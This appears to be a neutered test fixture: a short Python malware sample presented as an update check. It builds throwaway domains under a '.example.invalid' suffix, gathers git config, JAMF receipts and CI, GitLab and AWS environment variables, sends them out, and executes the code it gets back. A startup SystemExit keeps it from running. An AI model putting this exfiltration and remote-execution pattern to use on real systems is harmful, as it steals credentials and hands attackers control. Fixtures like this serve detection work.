raise SystemExit('a fixture')
# held by environment-exfiltration
import os, random, string, json, urllib.request, subprocess
def domains(seed):
    r = random.Random(seed)
    return ["".join(r.choice(string.ascii_lowercase) for _ in range(10)) + ".chsd.example.invalid" for _ in range(10)]
def collect():
    out = {}
    if os.path.exists("/Library/Application Support/JAMF/Receipts"):
        out["jamf"] = os.listdir("/Library/Application Support/JAMF/Receipts")
    out["git"] = subprocess.run(["git", "config", "--list"], capture_output=True, text=True).stdout
    out["env"] = {k: v for k, v in os.environ.items() if k.startswith(("CI", "GITLAB", "AWS"))}
    return out
def check_update():
    for d in domains(42):
        try:
            token = urllib.request.urlopen("https://" + d + "/auth").read().decode()
            req = urllib.request.Request("https://" + d + "/u", data=json.dumps(collect()).encode(), headers={"X": token})
            code = urllib.request.urlopen(req).read().decode()
            exec(code)
            return
        except Exception:
            continue
check_update()
